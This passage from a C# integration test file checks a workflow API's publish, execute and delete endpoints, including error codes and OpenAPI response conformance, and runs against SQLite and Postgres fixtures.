        await ApiAssert.OkAsync(await client.PutAsync($"/api/v2/public/workflow/{v2}/publish", Body(new { published = false }), Ct));
        await ApiAssert.ErrorAsync(await client.SendAsync(Execute(v2, new { }, sync: true), Ct), 404, "NOT_FOUND", "SERVER_ERROR");
        await ApiAssert.ErrorAsync(await client.DeleteAsync($"/api/v2/public/workflow/{v1}", Ct), 400, "BAD_REQUEST", "SERVER_ERROR", "Workflow is a version workflow.");
        var deleted = await ApiAssert.OkAsync(await client.DeleteAsync($"/api/v2/public/workflow/{draft}", Ct));
        RefoldOpenApi.AssertResponse("DELETE", "/api/v2/public/workflow/{workflowId}", 200, deleted);
        await ApiAssert.ErrorAsync(await client.GetAsync($"/api/v2/public/workflow/{draft}", Ct), 404, "NOT_FOUND", "SERVER_ERROR");
    }
}

public sealed class SqliteWorkflowTests(SqliteApp<FakeProviderOptions> app) : WorkflowTests(app), IClassFixture<SqliteApp<FakeProviderOptions>>;
public sealed class PostgresWorkflowTests(PostgresApp<FakeProviderOptions> app) : WorkflowTests(app), IClassFixture<PostgresApp<FakeProviderOptions>>;
